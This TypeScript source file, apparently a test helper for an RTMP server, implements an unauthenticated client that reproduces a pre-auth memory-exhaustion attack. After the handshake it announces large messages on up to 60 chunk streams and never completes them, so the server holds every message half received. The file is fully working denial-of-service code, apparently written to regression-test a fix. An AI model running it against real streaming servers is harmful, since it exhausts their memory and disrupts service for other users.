import { randomBytes } from 'node:crypto';
import net from 'node:net';

/** The pre-auth memory attack: big announced messages on many chunk streams, never finished. */
export interface PartialMessagesPlan {
  /** Chunk streams opened (csid 4, 5, …; at most 60 so every basic header is one byte). */
  readonly chunkStreams: number;
  /** Bytes sent on each chunk stream: less than `messageLength` (no message completes), whole chunks. */
  readonly bytesPerStream: number;
  /** Length announced in each type-0 header. Default 8 MiB (the message limit). */
  readonly messageLength?: number;
  /** Set Chunk Size sent first. Default 1 MiB. */
  readonly chunkSize?: number;
  /** Message type of the announced messages. Default 9 (video). */
  readonly typeId?: number;
}

/** What one attacking socket did. */
export interface PartialMessagesRun {
  readonly socket: net.Socket;
  /** Bytes the kernel took from us after the handshake. */
  readonly sent: number;
  /** Whether the server closed the socket before everything was sent. */
  readonly closedEarly: boolean;
}

/**
 * An unauthenticated RTMP client that does what the pre-auth memory attack did: plain handshake,
 * Set Chunk Size, then on each chunk stream a type-0 header announcing `messageLength` bytes and
 * only `bytesPerStream` of them, so the server holds every message half received. No connect is
 * ever sent. Resolves once everything is written (or the server closed the socket); the socket is
 * left open so the caller can measure what the server holds, then destroy it.
 */
export async function sendPartialMessages(port: number, host: string, plan: PartialMessagesPlan): Promise<PartialMessagesRun> {
  const messageLength = plan.messageLength ?? 8 * 1024 * 1024;
  const chunkSize = plan.chunkSize ?? 1024 * 1024;
  const typeId = plan.typeId ?? 9;
  if (plan.chunkStreams > 60) throw new Error('at most 60 chunk streams (one-byte basic headers)');
  if (plan.bytesPerStream >= messageLength) throw new Error('bytesPerStream must stay below messageLength');
  // A chunk is min(chunk size, what is left of the message) long: only whole chunks stop short.
  if (plan.bytesPerStream % chunkSize !== 0) throw new Error('bytesPerStream must be a multiple of chunkSize');
  const socket = net.connect(port, host);
  socket.on('error', () => undefined);
  let closed = false;
  socket.on('close', () => {
    closed = true;
  });
  await new Promise<void>((resolve, reject) => {
    socket.once('connect', resolve);
    socket.once('error', reject);
  });
  // C0 + C1 (time, zero, 1528 random bytes); S0 S1 S2 come back; C2 echoes S1.
  socket.write(Buffer.concat([Buffer.from([3]), Buffer.alloc(8), randomBytes(1528)]));
  const s1 = await readBytes(socket, 1 + 1536 + 1536);
  if (s1 === undefined) return { socket, sent: 0, closedEarly: true };
  socket.write(s1.subarray(1, 1 + 1536));

  const setChunkSize = Buffer.alloc(12 + 4);
  setChunkSize[0] = 0x02; // fmt 0, csid 2
  setChunkSize.writeUIntBE(4, 4, 3);
  setChunkSize[7] = 1; // Set Chunk Size
  setChunkSize.writeUInt32BE(chunkSize, 12);
  let sent = 0;
  const write = async (bytes: Buffer): Promise<boolean> => {
    if (closed || socket.destroyed) return false;
    sent += bytes.length;
    if (!socket.write(bytes)) {
      await new Promise<void>((resolve) => {
        const done = (): void => {
          socket.off('drain', done);
          socket.off('close', done);
          resolve();
        };
        socket.on('drain', done);
        socket.on('close', done);
      });
    }
    return !closed;
  };
  await write(setChunkSize);
  const filler = Buffer.alloc(Math.min(chunkSize, plan.bytesPerStream));
  for (let s = 0; s < plan.chunkStreams && !closed; s++) {
    const csid = 4 + s;
    const header = Buffer.alloc(12);
    header[0] = csid; // fmt 0
    header.writeUIntBE(messageLength, 4, 3);
    header[7] = typeId;
    header.writeUInt32LE(1, 8); // message stream 1
    let left = plan.bytesPerStream;
    let first = true;
    while (left > 0 && !closed) {
      const n = Math.min(chunkSize, left);
      const head = first ? header : Buffer.from([0xc0 | csid]);
      if (!(await write(Buffer.concat([head, filler.subarray(0, n)])))) break;
      first = false;
      left -= n;
    }
  }
  // Let the server read what the kernel buffered before the caller measures.
  await new Promise((resolve) => setTimeout(resolve, 50));
  return { socket, sent, closedEarly: closed };
}

async function readBytes(socket: net.Socket, n: number): Promise<Buffer | undefined> {
  const parts: Buffer[] = [];
  let have = 0;
  return new Promise((resolve) => {
    const onData = (chunk: Buffer): void => {
      parts.push(chunk);
      have += chunk.length;
      if (have >= n) {
        socket.off('data', onData);
        socket.off('close', onClose);
        // Still flowing: whatever else the server sends is read and dropped, and its FIN is seen.
        resolve(Buffer.concat(parts));
      }
    };
    const onClose = (): void => resolve(undefined);
    socket.on('data', onData);
    socket.once('close', onClose);
  });
}
